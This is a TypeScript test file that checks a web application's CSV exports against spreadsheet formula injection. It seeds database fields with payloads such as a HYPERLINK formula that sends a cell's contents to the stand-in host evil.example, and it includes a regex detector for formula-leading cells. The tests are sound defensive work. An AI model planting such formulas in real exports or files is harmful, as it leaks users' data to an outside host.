import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { rows } from '../permissions/rows.ts';
import { samples } from '../permissions/samples.ts';
import { asked, type Besieged, besieged, entitled } from './besieged.ts';

let it: Besieged;
const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
/** Everything that people say of themselves begins a formula. */
beforeAll(async () => {
  it = await besieged();
  const { db } = it.it.house;
  const basis = 'a test';
  for (const { personId: person_id, kind } of it.it.visitors.filter(({ personId }) => personId !== '')) {
    const said = { organisation: `+${formula}`, post: `@SUM(1)\t${kind}`, country: 'KE', stakeholder: 'civ' as const };
    await db
      .insertInto('affiliation')
      .values({ person_id, basis, ...said })
      .execute();
  }
  await sql`update person set name = ${formula} || name, listed = true`.execute(db);
  await sql`update organisation set name = ${formula} || name`.execute(db);
  await sql`update list set titles = jsonb_build_object(language, ${`-2+3${formula}`}::text),
    descriptions = jsonb_build_object(language, ${formula}::text)`.execute(db);
  await sql`update address set email = '=1+1' || email, canonical = '=1+1' || canonical where email not like 'admin%'`.execute(
    db,
  );
});
afterAll(() => it[Symbol.asyncDispose]());

/** Cells that a spreadsheet would calculate; numbers are no danger. */
function formulas(table: string): string[] {
  const cells: string[][] = parse(table, { bom: true, relax_column_count: true });
  return cells
    .flat()
    .filter(
      (cell) => /^[\s\p{Cf}]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u.test(cell) && Number.isNaN(Number(cell)),
    );
}

test('a cell that begins a formula is found', () => {
  expect(formulas('a,"=1+1"\r\n-1,\'=1\r\n" +1a",b\r\n')).toEqual(['=1+1', ' +1a']);
});

const tables: Record<string, string> = {};

// What is attached to a mail is its author's file, byte for byte.
test.each(rows.filter(({ address }) => samples[address] && !address.includes('/attachments/')))(
  '$address: a table of it has no formula',
  async (row) => {
    const visitor = entitled(it, row);
    const { path, form } = await asked(it, row, visitor);
    const answer = await it.ask(path, visitor, row.method === 'GET' ? undefined : form);
    if (!answer.headers.get('Content-Type')?.startsWith('text/csv')) return;
    const table = await answer.text();
    tables[row.address] = table;
    expect(answer.status).toBe(200);
    expect(formulas(table)).toEqual([]);
  },
);

test('tables were found, and those that show people show what they say, as words', () => {
  expect(Object.keys(tables)).toEqual(
    expect.arrayContaining(['GET /lists/:list/activity.csv', 'POST /lists/:list/roster/export']),
  );
  expect(tables['POST /lists/:list/roster/export']).toContain(`"'${formula.replaceAll('"', '""')}`);
  for (const [address, table] of Object.entries(tables))
    if (table.includes('evil.example')) expect([address, table.includes("'=HYPERLINK")]).toEqual([address, true]);
});
